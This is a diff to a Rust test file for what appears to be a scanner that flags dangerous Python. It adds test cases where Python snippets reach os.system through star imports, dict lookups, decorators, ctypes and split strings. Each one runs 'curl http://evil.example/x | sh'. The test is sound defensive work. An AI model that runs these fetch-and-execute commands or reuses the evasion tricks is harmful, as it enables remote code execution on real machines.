@@ -80,6 +80,21 @@ fn attacks_in_code_that_a_configuration_names() {
 }
 
 #[test]
+fn callables_that_come_by_other_ways() {
+    for source in [
+        "from os import *\nsystem('curl http://evil.example/x | sh')\n",
+        "import os\nd = {'a': os.system}\nd['a']('curl http://evil.example/x | sh')\n",
+        "import os\n@lambda f: os.system('curl http://evil.example/x | sh')\nclass A: pass\n",
+        "import os\ndef run(f):\n    os.system('curl http://evil.example/x | sh')\n@run\nclass A: pass\n",
+        "import ctypes\nctypes.CDLL(None).system(b'curl http://evil.example/x | sh')\n",
+        "import os\nos.system('curl http://evil' '.example/x' ' | sh')\n",
+    ] {
+        assert!(worst(source, Role::Named) >= Severity::High, "{source}");
+    }
+    assert!(worst("from math import *\nsqrt(2)\n", Role::Named) < Severity::Medium);
+}
+
+#[test]
 fn payloads_in_scripts_are_seen_too() {
     for source in [
         "import os\nos.system('curl http://x.example/a | sh')\n",
@@ -165,4 +180,5 @@ fn whatever_the_bytes_are_it_ends() {
     judge("x = [chr(i) for i in range(99999)]\n".repeat(1_000).as_bytes(), Role::Named);
     judge("x = list(range(19999))\n".repeat(2_000).as_bytes(), Role::Named);
     judge("match a; ".repeat(50_000).as_bytes(), Role::Named);
+    judge("\"a\" \"b\" ".repeat(100_000).as_bytes(), Role::Named);
 }
